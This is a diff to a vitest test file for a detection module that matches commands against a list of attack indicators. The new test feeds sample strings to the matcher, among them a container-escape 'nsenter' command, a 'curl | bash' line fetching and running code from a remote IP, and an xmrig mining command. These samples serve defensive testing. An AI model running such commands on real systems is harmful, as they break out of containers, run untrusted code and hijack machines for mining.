@@ -1,7 +1,7 @@
 import { readFileSync, writeFileSync } from 'node:fs';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { foldedForLiterals, mayMatch, patternHash, requiredLiteralsOf } from '../../src/knowledge/indicator-literals.js';
+import { foldedForLiterals, indicatorMatches, mayMatch, patternHash, requiredLiteralsOf } from '../../src/knowledge/indicator-literals.js';
 import { INDICATOR_LITERALS } from '../../src/knowledge/indicator-literals.generated.js';
 import { ATTACK_INDICATORS } from '../../src/knowledge/indicators.js';
 import { requiredLiterals, withoutAssertions } from '../support/required-literals.js';
@@ -99,6 +99,11 @@ describe('the first look never rules out a text the pattern matches', () => {
       { numRuns: 300, seed: 7 },
     );
     expect(matched, 'texts generated that the pattern matches').toBeGreaterThan(0);
+  });
+
+  it('indicatorMatches answers as the pattern does', () => {
+    const texts = ['nsenter -t 1 -m -- sh', 'NSENTER --TARGET 1 --ALL', 'curl -s http://203.0.113.9/x | bash', 'xmrig -o stratum+tcp://p:3333', 'ls -l /', 'nſenter -t 1 -m', ''];
+    for (const indicator of ATTACK_INDICATORS) for (const text of texts) expect(indicatorMatches(indicator, text), `${indicator.id} on ${text}`).toBe(indicator.pattern.test(text));
   });
 
   it('leaves texts with non-ASCII characters to the pattern', () => {
